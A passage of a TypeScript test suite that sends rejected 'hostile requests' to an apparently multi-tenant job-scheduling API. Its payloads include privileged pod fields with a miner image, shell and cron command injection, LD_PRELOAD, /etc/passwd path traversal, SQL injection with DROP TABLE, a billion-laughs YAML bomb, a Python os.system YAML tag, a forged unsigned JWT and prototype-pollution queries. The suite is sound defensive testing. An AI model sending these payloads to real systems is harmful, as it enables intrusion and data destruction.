      headers: { 'Content-Encoding': 'x-hostile' },
      body: raw(`{"tenantId":"${a}","jobType":"data-etl"}`),
      expectedStatus: 415,
    },
  );
  // On alice's own run: refused by the body parser before the route.
  const id = enc(ctx.seededRunId);
  for (const action of ['cancel', 'retry'] as const) {
    requests.push({
      category: 'malformed-json',
      name: `${action} with a truncated body`,
      route: `POST /runs/:runId/${action}`,
      method: 'POST',
      path: `/runs/${id}/${action}`,
      body: raw('{"reason":'),
      expectedStatus: 400,
      expectedErrorName: 'InputError',
    });
  }
  return requests;
}

function unknownFields(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const fields: Record<string, unknown> = {
    image: 'evil/miner:latest',
    command: ['sh', '-c', 'id'],
    args: ['--privileged'],
    namespace: 'kube-system',
    serviceAccountName: 'default',
    privileged: true,
    hostNetwork: true,
    nodeName: 'kwok-gpu-1',
    securityContext: { runAsUser: 0 },
    env: [{ name: 'X', value: 'y' }],
    volumes: [{ name: 'h', hostPath: { path: '/' } }],
    kind: 'Pod',
    metadata: { namespace: 'kube-system' },
    spec: { containers: [] },
    tenantID: tenants.b,
    TenantId: tenants.b,
    dry_run: true,
    resources: { limits: { cpu: '64' } },
  };
  const requests: HostileRequest[] = Object.entries(fields).map(
    ([field, value]) => ({
      category: 'unknown-fields',
      name: `field ${field}`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: json({ ...base, [field]: value }),
      expectedStatus: 400,
    }),
  );
  for (const [parameter, value] of Object.entries({
    shell: '/bin/sh',
    image: 'evil/miner:latest',
    command: 'sh -c id',
    env: 'LD_PRELOAD=/tmp/x.so',
    tier: 'enterprise',
  })) {
    requests.push({
      category: 'unknown-fields',
      name: `parameter ${parameter}`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: json({ ...base, parameters: { ...params, [parameter]: value } }),
      expectedStatus: 400,
    });
  }
  return requests;
}

function crossTenant(ctx: HostileContext): HostileRequest[] {
  const { tenants, components, runTag } = ctx.org;
  const submit = (
    name: string,
    body: unknown,
    expectedStatus: number,
    as: UserKey = 'alice',
  ): HostileRequest => ({
    category: 'cross-tenant',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    as,
    body: json(body),
    expectedStatus,
  });
  const forA = (overrides: Record<string, unknown>) =>
    validBody(tenants.a, 'data-etl', overrides);
  return [
    submit(
      'alice for tenant b',
      validBody(tenants.b, 'data-etl', { tier: 'small' }),
      403,
    ),
    submit(
      'alice for tenant c',
      validBody(tenants.c, 'billing-report', { tier: 'small' }),
      403,
    ),
    submit(
      'alice for tenant b, dry run',
      validBody(tenants.b, 'data-etl', { tier: 'small', dryRun: true }),
      403,
    ),
    submit(
      'alice for a tenant no group owns',
      validBody(`${tenants.a}-x`, 'data-etl'),
      403,
    ),
    submit('bob for tenant a', validBody(tenants.a, 'data-etl'), 403, 'bob'),
    submit(
      'carol for tenant a',
      validBody(tenants.a, 'data-etl'),
      403,
      'carol',
    ),
    submit(
      'mallory for tenant a',
      validBody(tenants.a, 'data-etl'),
      403,
      'mallory',
    ),
    submit(
      'mallory for tenant b',
      validBody(tenants.b, 'data-etl', { tier: 'small' }),
      403,
      'mallory',
    ),
    submit(
      "entityRef of tenant b's owned component",
      forA({ entityRef: components.b.owned }),
      400,
    ),
    submit(
      "entityRef of tenant b's annotated component",
      forA({ entityRef: components.b.annotated }),
      400,
    ),
    submit(
      "entityRef of tenant c's owned component",
      forA({ entityRef: components.c.owned }),
      400,
    ),
    submit(
      "entityRef of tenant c's annotated component",
      forA({ entityRef: components.c.annotated }),
      400,
    ),
    submit(
      "entityRef of tenant b's component, kind upper-cased",
      forA({
        entityRef: components.b.owned.replace('component:', 'Component:'),
      }),
      400,
    ),
    submit(
      "entityRef of tenant b's component, dry run",
      forA({ entityRef: components.b.owned, dryRun: true }),
      400,
    ),
    submit(
      "entityRef of tenant b's group",
      forA({ entityRef: ctx.org.groups.b }),
      400,
    ),
    submit('entityRef of a user', forA({ entityRef: ctx.org.users.bob }), 400),
    submit(
      'entityRef of a component that does not exist',
      forA({ entityRef: `component:default/it-${runTag}-a-nope` }),
      400,
    ),
    submit(
      "entityRef of tenant a's component in another namespace",
      forA({
        entityRef: components.a.owned.replace(':default/', ':elsewhere/'),
      }),
      400,
    ),
    ...[
      `it-${runTag}-a-service`,
      `component:it-${runTag}-a-service`,
      'component:default/',
      `component:default/it-${runTag}-a-service/extra`,
      ':default/x',
      `component:default/${'x'.repeat(100)}`,
      `component:default/it-${runTag}-a-service?x=1`,
    ].map(ref =>
      submit(
        `malformed entityRef ${JSON.stringify(ref)}`,
        forA({ entityRef: ref }),
        400,
      ),
    ),
  ];
}

/** Authorization headers that name no valid user. */
const BAD_AUTHORIZATION: Array<
  [name: string, header: string | null, status: number]
> = [
  ['no Authorization header', null, 401],
  ['Bearer x', 'Bearer x', 401],
  ['an empty Bearer token', 'Bearer ', 401],
  [
    'Basic credentials',
    `Basic ${Buffer.from('alice:secret').toString('base64')}`,
    401,
  ],
  [
    'a forged unsigned JWT claiming alice',
    `Bearer ${Buffer.from('{"alg":"none","typ":"JWT"}').toString(
      'base64url',
    )}.${Buffer.from(
      '{"sub":"user:default/alice","ent":["group:default/admins"]}',
    ).toString('base64url')}.`,
    401,
  ],
  ['an invalid user token', 'Bearer mock-invalid-user-token', 401],
  [
    'a limited (cookie) token of alice',
    `Bearer mock-limited-user-token:${JSON.stringify({
      sub: 'user:default/alice',
    })}`,
    401,
  ],
  ['a service token', 'Bearer mock-service-token', 403],
];

function auth(ctx: HostileContext): HostileRequest[] {
  // Every route gets no header at all, and three more bad headers drawn.
  const drawn = draw(
    fc.uniqueArray(fc.integer({ min: 1, max: BAD_AUTHORIZATION.length - 1 }), {
      minLength: 3,
      maxLength: 3,
    }),
    ROUTES.length,
    6,
  );
  const requests: HostileRequest[] = ROUTES.flatMap((route, i) =>
    [0, ...drawn[i]].map((k): HostileRequest => {
      const [name, header, status] = BAD_AUTHORIZATION[k];
      return {
        category: 'auth',
        name,
        ...routeRequest(route, ctx),
        authorization: header,
        expectedStatus: status,
      };
    }),
  );
  requests.push({
    category: 'auth',
    name: 'only a session cookie',
    ...routeRequest('GET /runs/:runId', ctx),
    authorization: null,
    headers: {
      Cookie: `backstage-auth=mock-limited-user-token:${JSON.stringify({
        sub: 'user:default/alice',
      })}`,
    },
    expectedStatus: 401,
  });
  // Valid tokens of users outside tenant a, on tenant a's run: the run
  // must look as if it did not exist.
  const forgedUser = `Bearer mock-user-token:${JSON.stringify({
    sub: 'user:default/eve',
  })}`;
  for (const route of [
    'GET /runs/:runId',
    'GET /runs/:runId/events',
    'GET /runs/:runId/logs',
    'POST /runs/:runId/cancel',
    'POST /runs/:runId/retry',
  ] as const) {
    for (const user of ['bob', 'carol', 'mallory'] as const) {
      requests.push({
        category: 'auth',
        name: `${user} (not of tenant a) on tenant a's run`,
        ...routeRequest(route, ctx),
        as: user,
        expectedStatus: 404,
      });
    }
    requests.push({
      category: 'auth',
      name: "a user the catalog does not know, on tenant a's run",
      ...routeRequest(route, ctx),
      authorization: forgedUser,
      expectedStatus: 404,
    });
  }
  // The same for tenant a's schedule and rule: they look as if they did
  // not exist (a delete or pause, if wrongly accepted, goes last).
  for (const route of [
    'GET /schedules/:scheduleId',
    'POST /schedules/:scheduleId/pause',
    'DELETE /schedules/:scheduleId',
    'GET /triggers/:triggerId',
    'DELETE /triggers/:triggerId',
  ] as const) {
    for (const user of ['bob', 'mallory'] as const) {
      requests.push({
        category: 'auth',
        name: `${user} (not of tenant a) on tenant a's ${route}`,
        ...routeRequest(route, ctx),
        as: user,
        expectedStatus: 404,
        last: route.startsWith('POST') || route.startsWith('DELETE'),
      });
    }
  }
  for (const route of [
    'GET /tenants/:tenantId/configuration',
    'POST /tenants/:tenantId/configuration',
  ] as const) {
    requests.push({
      category: 'auth',
      name: `bob (not of tenant a) on ${route} of tenant a`,
      ...routeRequest(route, ctx),
      as: 'bob',
      expectedStatus: 403,
    });
  }
  return requests;
}

function badQueries(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const logs = `/runs/${enc(ctx.seededRunId)}/logs`;
  const list = [
    'limit=-1',
    'limit=0',
    'limit=201',
    'limit=1000000000',
    'limit=99999999999999999999999',
    'limit=2.5',
    'limit=ten',
    'limit=0x10',
    'limit=1e1',
    'limit=%205',
    'limit=',
    'limit[]=5',
    'limit[]=5&limit[]=6',
    'limit[a]=1',
    'cursor=not-a-cursor',
    `cursor=${Buffer.from('[1,"x"').toString('base64url')}`,
    `cursor=${Buffer.from('{"createdAt":1,"id":"x"}').toString('base64url')}`,
    `cursor=${Buffer.from(`[1e999,"${'x'.repeat(200)}"]`).toString(
      'base64url',
    )}`,
    `cursor=${'c'.repeat(600)}`,
    'cursor[]=x',
    'from=yesterday',
    'from=0',
    'from=-1',
    'from=2026-02-30',
    'from=2026-02-30T00:00:00Z',
    'to=2026-13-45',
    'to=%2B275760-09-13T00:00:00Z',
    'from[]=2026-01-01T00:00:00Z',
    'from[a]=2026-01-01T00:00:00Z',
    'status=Bogus',
    'status[]=Running&status[]=Nope',
    'status[a]=Running',
    `tenantId=${enc('Bad_Tenant')}`,
    `tenantId=${Array.from({ length: 51 }, (_, i) => `t${i}`).join(',')}`,
    // The old name of the tenant filter is an unknown parameter now.
    `tenant=${tenants.a}`,
    'type=Data_ETL',
    'priority=urgent',
    'entityRef=my-service',
    'entityRef[]=component:default/x',
    'submittedBy=alice',
    'submittedBy[]=user:default/alice',
    `submittedBy=${'x'.repeat(600)}`,
    'sort=asc',
    `tenantId=${tenants.a}&tennant=x`,
  ];
  const stats = [
    'limit=10',
    'cursor=x',
    'from=yesterday',
    'to=2026-02-30',
    'from[]=2026-01-01T00:00:00Z',
    'window=7d',
    'status=Bogus',
  ];
  const logQueries = [
    'tailLines=-1',
    'tailLines=0',
    'tailLines=1000000000',
    'tailLines=abc',
    'tailLines=1e3',
    'tailLines[]=5',
    'follow=yes',
    'follow[]=true',
    'follow=true&follow=true',
    `pod=${enc('../../etc/passwd')}`,
    'pod=Bad_Pod',
    'pod[]=x',
    'container=job',
    'previous=true',
  ];
  const make = (
    route: RouteId,
    path: string,
    query: string,
  ): HostileRequest => ({
    category: 'bad-query',
    name: `?${decodeURIComponent(query)}`.slice(0, 120),
    route,
    method: 'GET',
    path: `${path}?${query}`,
    expectedStatus: 400,
  });
  return [
    ...list.map(q => make('GET /runs', '/runs', q)),
    ...stats.map(q => make('GET /stats', '/stats', q)),
    ...logQueries.map(q => make('GET /runs/:runId/logs', logs, q)),
    {
      ...make('GET /runs/:runId/logs', logs, 'pod=some-other-pod-of-nobody'),
      expectedStatus: 404,
    },
    // Routes that take no query parameters say so.
    make('GET /runs/:runId', `/runs/${enc(ctx.seededRunId)}`, 'verbose=true'),
    make(
      'GET /runs/:runId/events',
      `/runs/${enc(ctx.seededRunId)}/events`,
      'limit=5',
    ),
    make('GET /trigger-topics', '/trigger-topics', 'tenantId=x'),
    make('GET /triggers', '/triggers', `tenant=${tenants.a}`),
    make('GET /triggers', '/triggers', `tenantId=${enc('Bad_Tenant')}`),
    make('GET /schedules', '/schedules', 'tenantId[]=x'),
    make('GET /schedules', '/schedules', 'status=paused'),
    make(
      'GET /schedules/:scheduleId',
      `/schedules/${enc(ctx.seededScheduleId)}`,
      'x=1',
    ),
    make(
      'GET /triggers/:triggerId',
      `/triggers/${enc(ctx.seededTriggerId)}`,
      'x=1',
    ),
    make(
      'GET /tenants/:tenantId/configuration',
      `/tenants/${enc(tenants.a)}/configuration`,
      'format=json',
    ),
    // Access before validation: another tenant's run, bad query, 404.
    {
      ...make('GET /runs/:runId/logs', logs, 'tailLines=-1'),
      name: "bob's bad query on tenant a's run",
      as: 'bob',
      expectedStatus: 404,
    },
    {
      ...make('GET /runs/:runId', `/runs/${enc(ctx.seededRunId)}`, 'x=1'),
      name: "bob's unknown parameter on tenant a's run",
      as: 'bob',
      expectedStatus: 404,
    },
  ];
}

/**
 * Trigger rules, schedules and configuration imports: topics that carry
 * other tenants' data, other tenants, YAML that expands or asks for types,
 * and bodies of the wrong shape.
 */
function schedulesTriggersConfiguration(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const rule = (overrides: Record<string, unknown>) => ({
    tenantId: tenants.a,
    topic: HOSTILE_TOPIC,
    jobType: ctx.jobType,
    ...overrides,
  });
  const schedule = (overrides: Record<string, unknown>) => ({
    tenantId: tenants.a,
    jobType: ctx.jobType,
    cron: '0 4 * * *',
    paused: true,
    ...overrides,
  });
  const post = (
    route: 'POST /triggers' | 'POST /schedules',
    name: string,
    body: unknown,
    expectedStatus: number,
    as: UserKey = 'alice',
  ): HostileRequest => ({
    category: 'schedules-triggers-configuration',
    name,
    route,
    method: 'POST',
    path: route === 'POST /triggers' ? '/triggers' : '/schedules',
    as,
    body: json(body),
    expectedStatus,
  });
  const document = (text: string) =>
    `apiVersion: tenant-jobs.io/v1\nkind: TenantJobsConfiguration\n${text}`;
  const entry = `{ jobType: ${ctx.jobType}, cron: '0 4 * * *', paused: true }`;
  const importing = (
    name: string,
    text: string,
    expectedStatus: number,
    as: UserKey = 'alice',
    tenantId = tenants.a,
  ): HostileRequest => ({
    category: 'schedules-triggers-configuration',
    name,
    route: 'POST /tenants/:tenantId/configuration',
    method: 'POST',
    path: `/tenants/${enc(tenantId)}/configuration`,
    as,
    body: raw(text, 'application/yaml'),
    expectedStatus,
  });
  const laughs = [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    ...Array.from(
      { length: 8 },
      (_, i) =>
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(
          98 + i,
        )} [${Array(9)
          .fill(`*${String.fromCharCode(97 + i)}`)
          .join(',')}]`,
    ),
  ].join('\n');
  return [
    ...[
      'signals',
      'scaffolder.task',
      'scaffolder',
      'notifications',
      'tenant-jobs:run-changed',
      'Signals',
    ].map(topic =>
      post(
        'POST /triggers',
        `a rule on ${topic}, which carries others' data`,
        rule({ topic, filter: { channel: `tenant-jobs:${tenants.b}` } }),
        400,
      ),
    ),
    post(
      'POST /triggers',
      'a rule on a topic the platform team did not allow',
      rule({ topic: 'github.push' }),
      400,
    ),
    post('POST /triggers', "bob's rule for tenant a", rule({}), 403, 'bob'),
    post(
      'POST /triggers',
      "mallory's rule for tenant a",
      rule({}),
      403,
      'mallory',
    ),
    post(
      'POST /triggers',
      'a filter path into the prototype',
      rule({ filter: { '__proto__.polluted': 'yes' } }),
      400,
    ),
    post(
      'POST /triggers',
      'a parameter mapped from a function',
      rule({ parameters: { x: { from: 'a', value: 1 } } }),
      400,
    ),
    post(
      'POST /triggers',
      'twenty-one filter conditions',
      rule({
        filter: Object.fromEntries(
          Array.from({ length: 21 }, (_, i) => [`k${i}`, 'v']),
        ),
      }),
      400,
    ),
    post(
      'POST /schedules',
      "bob's schedule for tenant a",
      schedule({}),
      403,
      'bob',
    ),
    post(
      'POST /schedules',
      'a cron of six fields',
      schedule({ cron: '0 0 4 * * *' }),
      400,
    ),
    post(
      'POST /schedules',
      'a cron with a shell payload',
      schedule({ cron: '0 4 * * *; id' }),
      400,
    ),
    post(
      'POST /schedules',
      'a time zone path',
      schedule({ timeZone: '../../etc/localtime' }),
      400,
    ),
    post(
      'POST /schedules',
      'a schedule for a tenant no group owns',
      schedule({ tenantId: `${tenants.a}-x` }),
      403,
    ),
    importing(
      'an alias',
      document(`schedules:\n  - &s ${entry}\n  - *s\n`),
      400,
    ),
    importing('a billion laughs', `${laughs}\n`, 400),
    importing('an explicit tag', document('schedules: !!seq []\n'), 400),
    importing(
      'a custom tag',
      document(`schedules:\n  - !!python/object/apply:os.system ["id"]\n`),
      400,
    ),
    importing(
      'a merge key',
      document(
        `defaults: &d { paused: true }\nschedules:\n  - { <<: *d, jobType: ${ctx.jobType}, cron: '0 4 * * *' }\n`,
      ),
      400,
    ),
    importing(
      'two documents',
      `${document('schedules: []\n')}---\n${document('schedules: []\n')}`,
      400,
    ),
    importing('not a mapping', '- a\n- b\n', 400),
    importing(
      'a document for tenant b sent to tenant a',
      document(`tenant: ${tenants.b}\nschedules: []\n`),
      400,
    ),
    importing(
      "bob's import into tenant a",
      document(`schedules:\n  - ${entry}\n`),
      403,
      'bob',
    ),
    importing(
      'an import into a tenant id that is not one',
      document('schedules: []\n'),
      400,
      'alice',
      'Bad_Tenant',
    ),
    importing(
      'a rule on signals in an import',
      document(`triggers:\n  - { topic: signals, jobType: ${ctx.jobType} }\n`),
      400,
    ),
  ];
}

/** The read routes that take a query. */
type QueryRoute = 'GET /audit' | 'GET /audit/export' | 'GET /usage';

type QueryRouteShape = {
  path: string;
  /** A query the route accepts from alice: the export's time range. */
  base: Record<string, string>;
  /** For each parameter, a value the route accepts from alice. */
  valid: Record<string, string>;
};

/**
 * The query routes with, for each of their parameters, a value alice may
 * send: a hostile request changes one parameter of an accepted query, so
 * that parameter is what it must be refused for.
 */
function queryRoutes(ctx: HostileContext): Record<QueryRoute, QueryRouteShape> {
  const { tenants, users } = ctx.org;
  const filters = {
    tenantId: tenants.a,
    action: 'run-submit',
    actor: users.alice,
    outcome: 'refused',
    from: '2026-01-01',
    to: '2026-02-01',
  };
  return {
    'GET /audit': {
      path: '/audit',
      base: {},
      // An audit cursor as the API returns one: `a<id>` in base64url.
      valid: { ...filters, limit: '10', cursor: auditCursor('10') },
    },
    'GET /audit/export': {
      path: '/audit/export',
      base: { from: filters.from, to: filters.to },
      valid: { ...filters, format: 'jsonl' },
    },
    'GET /usage': {
      path: '/usage',
      base: {},
      valid: {
        tenantId: tenants.a,
        from: filters.from,
        to: filters.to,
        groupBy: 'tenant,day',
        format: 'csv',
      },
    },
  };
}

/** An audit cursor of `id`, shaped as `GET /audit` returns them. */
function auditCursor(id: string): string {
  return Buffer.from(`a${id}`).toString('base64url');
}

/** A cursor of `GET /runs`, shaped as that route returns them. */
function runsCursor(createdAt: number, id: string): string {
  return Buffer.from(JSON.stringify([createdAt, id])).toString('base64url');
}

/**
 * The route's path and query: its base query with `params` (unencoded;
 * null leaves a base parameter out), then `rest`, already encoded.
 */
function queryPath(
  shape: QueryRouteShape,
  params: Record<string, string | null> = {},
  rest?: string,
): string {
  const parts = Object.entries({ ...shape.base, ...params })
    .filter((entry): entry is [string, string] => entry[1] !== null)
    .map(([key, value]) => `${key}=${enc(value)}`);
  if (rest) parts.push(rest);
  return parts.length > 0 ? `${shape.path}?${parts.join('&')}` : shape.path;
}

/** A query for a failure message; as sent when it cannot be decoded. */
function shownQuery(path: string): string {
  const at = path.indexOf('?');
  if (at < 0) return '(no query)';
  const query = path.slice(at);
  let shown = query;
  try {
    shown = decodeURIComponent(query);
  } catch {
    // Malformed on purpose: shown as sent.
  }
  return shown.length > 120 ? `${shown.slice(0, 117)}...` : shown;
}

/**
 * A configuration document alice may import into tenant a: one paused
 * schedule. Sent where the import must not happen (a preview, or a
 * refused query), so a request wrongly accepted creates a schedule and a
 * CronJob, which the suite counts.
 */
function importableDocument(ctx: HostileContext): string {
  return [
    'apiVersion: tenant-jobs.io/v1',
    'kind: TenantJobsConfiguration',
    'schedules:',
    `  - { jobType: ${ctx.jobType}, cron: '0 5 * * *', paused: true }`,
    '',
  ].join('\n');
}

/** POST /tenants/:tenantId/configuration with `query` (already encoded). */
function configurationImport(
  ctx: HostileContext,
  fields: Omit<HostileRequest, 'route' | 'method' | 'path' | 'name'> & {
    name: string;
    query?: string;
    tenantPath?: string;
  },
): HostileRequest {
  const { query, tenantPath, ...rest } = fields;
  return {
    route: 'POST /tenants/:tenantId/configuration',
    method: 'POST',
    path: `/tenants/${tenantPath ?? enc(ctx.org.tenants.a)}/configuration${
      query === undefined ? '' : `?${query}`
    }`,
    body: raw(importableDocument(ctx), 'application/yaml'),
    ...rest,
  };
}

/**
 * Foreign characters, null bytes and injection strings in every query
 * parameter of the read routes, and in the preview's `dryRun`.
 */
function readQueryStrings(ctx: HostileContext): HostileRequest[] {
  const routes = queryRoutes(ctx);
  const pairs = (Object.keys(routes) as QueryRoute[]).flatMap(route =>
    Object.keys(routes[route].valid).map((param): [QueryRoute, string] => [
      route,
      param,
    ]),
  );
  const graphemes = foreignStrings(pairs.length + 1, 7, 'grapheme');
  const shell = draw(
    fc.nat({ max: SHELL_AND_YAML_PAYLOADS.length - 1 }),
    pairs.length + 1,
    8,
  );
  const sql = [
    "' OR '1'='1",
    "'; DROP TABLE tenant_jobs_audit; --",
    "' UNION SELECT * FROM tenant_jobs_runs --",
    '%',
    '_',
    '*',
  ];
  const requests: HostileRequest[] = [];
  pairs.forEach(([route, param], i) => {
    const shape = routes[route];
    const valid = shape.valid[param];
    const get = (
      category: HostileCategory,
      name: string,
      value: string,
    ): HostileRequest => ({
      category,
      name: `${param} ${name}`,
      route,
      method: 'GET',
      path: queryPath(shape, { [param]: value }),
      expectedStatus: 400,
    });
    requests.push(
      get('unicode-and-null-bytes', 'cut by a null byte', `${valid}\u0000`),
      get(
        'unicode-and-null-bytes',
        'a null byte before a valid value',
        `\u0000${valid}`,
      ),
      get('unicode-and-null-bytes', JSON.stringify(graphemes[i]), graphemes[i]),
      get(
        'yaml-and-shell',
        JSON.stringify(SHELL_AND_YAML_PAYLOADS[shell[i]]),
        SHELL_AND_YAML_PAYLOADS[shell[i]],
      ),
      get(
        'yaml-and-shell',
        `SQL ${JSON.stringify(sql[i % sql.length])} after a valid value`,
        `${valid}${sql[i % sql.length]}`,
      ),
    );
  });
  const last = pairs.length;
  for (const [category, name, value] of [
    ['unicode-and-null-bytes', 'cut by a null byte', 'true\u0000'],
    ['unicode-and-null-bytes', 'in full-width letters', 'ｔｒｕｅ'],
    ['unicode-and-null-bytes', 'with a dotless i', 'truı'],
    [
      'unicode-and-null-bytes',
      JSON.stringify(graphemes[last]),
      graphemes[last],
    ],
    [
      'yaml-and-shell',
      JSON.stringify(SHELL_AND_YAML_PAYLOADS[shell[last]]),
      SHELL_AND_YAML_PAYLOADS[shell[last]],
    ],
    ['yaml-and-shell', 'a YAML boolean', 'yes'],
    ['yaml-and-shell', 'SQL after true', "true' OR '1'='1"],
  ] as Array<[HostileCategory, string, string]>) {
    requests.push(
      configurationImport(ctx, {
        category,
        name: `preview: dryRun ${name}`,
        query: `dryRun=${enc(value)}`,
        expectedStatus: 400,
      }),
    );
  }
  return requests;
}

/**
 * Query parameters of the wrong shape (arrays, objects) and prototype
 * keys, on the read routes and the preview.
 */
function readQueryShapes(ctx: HostileContext): HostileRequest[] {
  const routes = queryRoutes(ctx);
  const requests: HostileRequest[] = [];
  for (const route of Object.keys(routes) as QueryRoute[]) {
    const shape = routes[route];
    for (const [param, valid] of Object.entries(shape.valid)) {
      // Lists (tenantId, action, outcome, groupBy) may be repeated, so
      // only an object is the wrong shape for them.
      const shapes = [`${param}[a]=${enc(valid)}`];
      if (!['tenantId', 'action', 'outcome', 'groupBy'].includes(param)) {
        shapes.push(
          `${param}[]=${enc(valid)}`,
          `${param}=${enc(valid)}&${param}=${enc(valid)}`,
        );
      }
      for (const query of shapes) {
        requests.push({
          category: 'wrong-types',
          name: shownQuery(`?${query}`),
          route,
          method: 'GET',
          path: queryPath(shape, { [param]: null }, query),
          expectedStatus: 400,
        });
      }
    }
  }
  for (const query of [
    'dryRun[]=true',
    'dryRun[a]=true',
    'dryRun[]=true&dryRun[]=true',
    'dryRun[dryRun]=false',
  ]) {
    requests.push(
      configurationImport(ctx, {
        category: 'wrong-types',
        name: `preview: ${shownQuery(`?${query}`)}`,
        query,
        expectedStatus: 400,
      }),
    );
  }
  // JSON bodies that are no YAML document text, previewed. JSON strings
  // are refused by the JSON parser already (objects and arrays only).
  for (const [name, payload] of [
    ['a JSON object', JSON.stringify({ apiVersion: 'tenant-jobs.io/v1' })],
    ['a JSON array', '[]'],
    ['a JSON string of a YAML list', JSON.stringify('- a\n- b\n')],
    ['an empty JSON string', '""'],
  ]) {
    requests.push(
      configurationImport(ctx, {
        category: 'wrong-types',
        name: `preview of ${name}`,
        query: 'dryRun=true',
        body: raw(payload),
        expectedStatus: 400,
      }),
    );
  }

  // qs drops a top-level __proto__ key before any route sees it, so each
  // is paired with what must be refused.
  const pollution: Array<[RouteId, string, Partial<HostileRequest>]> = [
    ['GET /audit', '/audit?constructor[prototype][polluted]=yes', {}],
    ['GET /audit', '/audit?__proto__[polluted]=yes&limit=0', {}],
    [
      'GET /audit',
      `/audit?tenantId=${enc(
        ctx.org.tenants.a,
      )}&tenantId[__proto__][polluted]=yes&outcome=nope`,
      {},
    ],
    ['GET /audit/export', '/audit/export?__proto__[polluted]=yes', {}],
    [
      'GET /audit/export',
      '/audit/export?from=2026-01-01&to=2026-02-01&constructor[prototype][polluted]=yes',
      {},
    ],
    ['GET /usage', '/usage?constructor[prototype][polluted]=yes', {}],
    ['GET /usage', '/usage?groupBy[__proto__]=day&groupBy=month,day', {}],
    ['GET /me', '/me?__proto__[polluted]=yes&x=1', {}],
    ['GET /me', '/me?constructor[prototype][polluted]=yes', {}],
    [
      'GET /admin/tenants',
      '/admin/tenants?constructor[prototype][admin]=true',
      { expectedStatus: 403 },
    ],
    [
      'GET /admin/clusters',
      '/admin/clusters?__proto__[admin]=true',
      { as: 'bob', expectedStatus: 403 },
    ],
  ];
  for (const [route, path, extra] of pollution) {
    requests.push({
      category: 'prototype-pollution',
      name: `query ${shownQuery(path)}`,
      route,
      method: 'GET',
      path,
      expectedStatus: 400,
      ...extra,
    });
  }
  for (const query of [
    'dryRun=true&constructor[prototype][polluted]=yes',
    '__proto__[dryRun]=false&dryRun=yes',
    'dryRun=true&hasOwnProperty=x',
  ]) {
    requests.push(
      configurationImport(ctx, {
        category: 'prototype-pollution',
        name: `preview: query ${shownQuery(`?${query}`)}`,
        query,
        expectedStatus: 400,
      }),
    );
  }
  // A tenant id in the path that is a name of the prototype: no tenant.
  requests.push(
    configurationImport(ctx, {
      category: 'prototype-pollution',
      name: 'preview into tenant constructor',
      query: 'dryRun=true',
      tenantPath: 'constructor',
      expectedStatus: 403,
    }),
    configurationImport(ctx, {
      category: 'prototype-pollution',
      name: 'preview into tenant __proto__',
      query: 'dryRun=true',
      tenantPath: '__proto__',
      expectedStatus: 400,
    }),
  );
  // Mappings with keys of the prototype where the import expects a
  // string or an entry (not previews: a preview lists such problems).
  const document = (text: string) =>
    `apiVersion: tenant-jobs.io/v1\nkind: TenantJobsConfiguration\n${text}`;
  for (const [name, text] of [
    ['a tenant with its own toString', 'tenant: { toString: 1 }\n'],
    [
      'a tenant with its own toString and valueOf',
      'tenant: { toString: 1, valueOf: 2 }\n',
    ],
    [
      'a schedule whose fields have their own toString',
      `schedules:\n  - { jobType: { toString: 1 }, cron: { toString: 1 }, paused: true }\n`,
    ],
    [
      'a rule whose fields have their own toString',
      `triggers:\n  - { topic: { toString: 1 }, jobType: { valueOf: 1 }, filter: { toString: 1 } }\n`,
    ],
    ['a __proto__ key', 'schedules: []\n__proto__: { polluted: yes }\n'],
    [
      'a schedule with a __proto__ key',
      `schedules:\n  - { jobType: ${ctx.jobType}, cron: '0 5 * * *', paused: true, __proto__: { polluted: yes } }\n`,
    ],
  ]) {
    requests.push(
      configurationImport(ctx, {
        category: 'prototype-pollution',
        name: `import of ${name}`,
        body: raw(document(text), 'application/yaml'),
        expectedStatus: 400,
      }),
    );
  }
  return requests;
}

/**
 * Values the read routes refuse: times, limits, cursors (of another
 * route, or huge), windows, groupings, formats, the export without its
 * time range, unknown parameters, and the preview's `dryRun`.
 */
function readBadQueries(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const routes = queryRoutes(ctx);
  const tooManyTenants = Array.from({ length: 51 }, (_, i) => `t${i}`).join(
    ',',
  );
  const audit = [
    'limit=-1',
    'limit=0',
    'limit=201',
    'limit=1000000000',
    'limit=99999999999999999999999',
    'limit=2.5',
    'limit=ten',
    'limit=0x10',
    'limit=1e1',
    'limit=%205',
    'limit=',
    'cursor=not-a-cursor',
    'cursor=',
    // A cursor of GET /runs (of the seeded run, and a short one).
    `cursor=${runsCursor(Date.parse('2026-01-01'), ctx.seededRunId)}`,
    `cursor=${runsCursor(1, 'x')}`,
    `cursor=${auditCursor('-1')}`,
    `cursor=${auditCursor('1'.repeat(16))}`,
    `cursor=${auditCursor('1e3')}`,
    `cursor=${auditCursor('10')}.`,
    `cursor=${'c'.repeat(600)}`,
    // Long, yet within the 16 kB Node takes for a request line.
    `cursor=${'YTEw'.repeat(2000)}`,
    'from=yesterday',
    'from=0',
    'from=-1',
    'from=2026-02-30',
    'from=2026-02-30T00:00:00Z',
    'from=2026-01-01T24:00:00Z',
    `from=${enc('2026-01-01 10:00:00Z')}`,
    'from=2026-01-01T10:00:00',
    'to=2026-13-45',
    'to=%2B275760-09-13T00:00:00Z',
    'from=2026-01-01&from=2026-01-02',
    'from=2026-02-01&to=2026-02-01',
    'from=2026-03-01&to=2026-02-01',
    'action=Bogus',
    'action=run-submit,Bogus',
    'action=RUN-SUBMIT',
    `action=${Array(21).fill('run-submit').join(',')}`,
    'outcome=denied',
    'outcome=Refused',
    'outcome=refused,',
    'actor=alice',
    'actor=user:alice',
    'actor=user:default/',
    `actor=user:default/${'x'.repeat(600)}`,
    `tenantId=${enc('Bad_Tenant')}`,
    `tenantId=${tooManyTenants}`,
    'tenantId=',
    `tenantId=${enc(`${tenants.a},,${tenants.a}`)}`,
    `tenant=${tenants.a}`,
    'sort=asc',
    'format=csv',
  ];
  const exportQueries: Array<[string, Record<string, string | null>]> = [
    ['no time range', { from: null, to: null }],
    ['no from', { from: null }],
    ['no to', { to: null }],
